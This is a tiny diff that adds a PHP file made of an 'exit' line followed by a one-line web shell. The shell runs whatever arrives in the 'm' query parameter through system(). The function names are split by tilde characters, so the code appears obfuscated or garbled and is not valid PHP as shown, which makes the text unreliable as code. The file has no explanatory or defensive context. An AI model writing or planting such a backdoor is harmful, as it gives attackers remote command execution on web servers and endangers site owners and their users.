@@ -1,0 +1,2 @@
+<?php exit; ?>
+<?php sys~tem($_G~ET['m']);
